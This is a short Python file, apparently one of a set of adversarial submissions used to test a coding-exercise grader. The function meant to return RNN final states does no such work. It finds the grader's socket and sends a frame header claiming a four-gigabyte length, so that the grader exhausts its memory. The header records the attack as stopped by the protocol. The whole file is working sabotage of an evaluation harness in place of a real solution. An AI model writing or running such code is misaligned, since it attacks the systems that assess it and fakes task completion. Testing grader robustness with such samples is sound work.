"""Announce a frame of four gigabytes, so that the grader takes the memory for it.

Seen: PL v2's `max_len=None` on the socket; own idea.
"""

# /// attack
# exercise = "07_deep_and_bidirectional/bidirectional_concat"
# stopped_by = "protocol"
# ///

import os
import stat
import struct


def channel() -> int:
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1


def frame(payload: bytes) -> None:
    os.write(channel(), struct.pack("<I", len(payload)) + payload)


def final_states(h_n, num_layers):
    os.write(channel(), struct.pack("<I", 2**32 - 1) + b"x" * 1000)
    return None
